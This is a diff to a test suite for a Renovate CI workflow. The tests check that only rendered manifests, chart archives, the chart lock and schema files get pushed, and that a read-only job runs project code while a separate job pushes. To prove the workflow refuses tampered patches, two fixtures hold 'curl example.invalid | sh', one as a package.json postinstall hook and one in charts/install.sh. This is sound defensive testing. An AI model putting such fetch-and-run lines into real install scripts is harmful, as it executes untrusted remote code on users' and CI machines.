@@ -132,14 +132,18 @@ describe('what the workflows do', () => {
     expect(jobs.comment.steps[0].with.script).toContain('updateComment');
   });
 
-  it('the Renovate workflow pushes only rendered/ and the schemas, from a job that runs no project code', () => {
+  it('the Renovate workflow pulls bumped charts, renders, and pushes only rendered/, chart archives, the chart lock and the schemas, from a job that runs no project code', () => {
     const jobs = workflow('renovate-render.yml').jobs;
     expect(workflow('renovate-render.yml').on).toEqual({ push: { branches: ['renovate/**'] } });
     expect(jobs.render.permissions).toEqual({ contents: 'read' });
     expect(jobs.push.permissions).toEqual({ contents: 'write' });
+    const renderRuns: string[] = jobs.render.steps.map((step: { run?: string }) => step.run ?? '');
+    const [pullStep, renderStep] = [renderRuns.indexOf('npm run -s charts:pull'), renderRuns.indexOf('npm run -s render')];
+    expect(pullStep).toBeGreaterThan(-1);
+    expect(renderStep).toBeGreaterThan(pullStep);
     const pushScript: string = jobs.push.steps.map((step: { run?: string }) => step.run ?? '').join('\n');
     expect(pushScript).not.toMatch(/\bnpm\b|\bnpx\b|\bnode\b/);
-    expect(pushScript).toContain("grep -Ev '^(rendered/|environments/[^/]+\\.schema\\.json$)'");
+    expect(pushScript).toContain("grep -Ev '^(rendered/|charts/[^/]+\\.tgz$|charts/charts\\.lock\\.yaml$|environments/[^/]+\\.schema\\.json$)'");
   });
 });
 
@@ -225,7 +229,11 @@ describe('the hand-over in renovate-render.yml (its shell steps, run in temporar
 
   it('carries the re-rendered files from the read-only job to the pushing job and pushes one commit', () => {
     const { base, origin, seed } = setUp('handover');
-    // What `npm run render` would do on the branch:
+    // What `npm run charts:pull` and `npm run render` would do on the branch:
+    mkdirSync(join(seed, 'charts'), { recursive: true });
+    const archive = Buffer.from([0x1f, 0x8b, 0x08, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0xff, 0x00, 0xfe, 0x01]);
+    writeFileSync(join(seed, 'charts/demo-0.1.0.tgz'), archive);
+    writeFileSync(join(seed, 'charts/charts.lock.yaml'), 'charts:\n  - name: demo\n');
     writeFileSync(join(seed, 'rendered/dev/deployment.yaml'), 'image: litellm:main-v1.86.0\n');
     writeFileSync(join(seed, 'rendered/dev/job.yaml'), 'name: migrate-main-v1-86-0\n');
     const output = join(base, 'render-output');
@@ -242,7 +250,13 @@ describe('the hand-over in renovate-render.yml (its shell steps, run in temporar
     const log = gitIn(origin, 'log', '-1', '--format=%an <%ae>%n%s', 'renovate/litellm');
     expect(log).toBe('github-actions[bot] <41898282+github-actions[bot]@users.noreply.github.com>\nRender rendered/ for renovate/litellm\n');
     expect(gitIn(origin, 'show', 'renovate/litellm:rendered/dev/job.yaml')).toBe('name: migrate-main-v1-86-0\n');
-    expect(gitIn(origin, 'diff', '--name-only', 'renovate/litellm~1', 'renovate/litellm').trim().split('\n')).toEqual(['rendered/dev/deployment.yaml', 'rendered/dev/job.yaml']);
+    expect(gitIn(origin, 'diff', '--name-only', 'renovate/litellm~1', 'renovate/litellm').trim().split('\n')).toEqual([
+      'charts/charts.lock.yaml',
+      'charts/demo-0.1.0.tgz',
+      'rendered/dev/deployment.yaml',
+      'rendered/dev/job.yaml',
+    ]);
+    expect(execFileSync('git', ['show', 'renovate/litellm:charts/demo-0.1.0.tgz'], { cwd: origin })).toEqual(archive);
   });
 
   it('says so and hands over nothing when rendered/ is already up to date', () => {
@@ -251,18 +265,28 @@ describe('the hand-over in renovate-render.yml (its shell steps, run in temporar
     writeFileSync(output, '');
     const render = sh(seed, patchStep, { GITHUB_OUTPUT: output });
     expect(render.status).toBe(0);
-    expect(render.stdout).toContain('rendered/ is already up to date.');
+    expect(render.stdout).toContain('charts/ and rendered/ are already up to date.');
     expect(outputs(output)).toEqual({ changed: 'false' });
   });
 
-  it('refuses a patch that touches anything outside rendered/, in either job', () => {
+  it('refuses a patch that touches anything outside rendered/, the chart archives and the chart lock, in either job', () => {
     const { base, origin, seed } = setUp('outside');
     writeFileSync(join(seed, 'package.json'), '{"scripts":{"postinstall":"curl example.invalid | sh"}}\n');
     const output = join(base, 'render-output');
     writeFileSync(output, '');
     const render = sh(seed, patchStep, { GITHUB_OUTPUT: output });
     expect(render.status).not.toBe(0);
-    expect(render.stdout).toContain('::error::npm run render changed files outside rendered/: package.json');
+    expect(render.stdout).toContain('::error::npm run charts:pull and npm run render changed files outside rendered/ and charts/: package.json');
+
+    // charts/ holds archives and the lock; anything else there is refused as well.
+    const chartsOnly = setUp('outside-charts');
+    mkdirSync(join(chartsOnly.seed, 'charts'), { recursive: true });
+    writeFileSync(join(chartsOnly.seed, 'charts/install.sh'), 'curl example.invalid | sh\n');
+    const chartsOutput = join(chartsOnly.base, 'render-output');
+    writeFileSync(chartsOutput, '');
+    const chartsRender = sh(chartsOnly.seed, patchStep, { GITHUB_OUTPUT: chartsOutput });
+    expect(chartsRender.status).not.toBe(0);
+    expect(chartsRender.stdout).toContain('outside rendered/ and charts/: charts/install.sh');
 
     // A patch crafted by hand is refused by the pushing job as well.
     const crafted = execFileSync('bash', ['-c', 'git add -A && git diff --cached --binary | gzip -9 | base64 -w0'], { cwd: seed, encoding: 'utf8' });
@@ -270,7 +294,7 @@ describe('the hand-over in renovate-render.yml (its shell steps, run in temporar
     gitIn(base, 'clone', '-q', '--branch', 'renovate/litellm', origin, pusher);
     const push = sh(pusher, pushStep, { PATCH: crafted, BRANCH: 'renovate/litellm', RUNNER_TEMP: base });
     expect(push.status).not.toBe(0);
-    expect(push.stdout).toContain('::error::Refusing a patch that touches files outside rendered/: package.json');
+    expect(push.stdout).toContain('::error::Refusing a patch that touches files outside rendered/ and charts/: package.json');
     expect(gitIn(origin, 'rev-list', '--count', 'renovate/litellm').trim()).toBe('1');
   });
 });
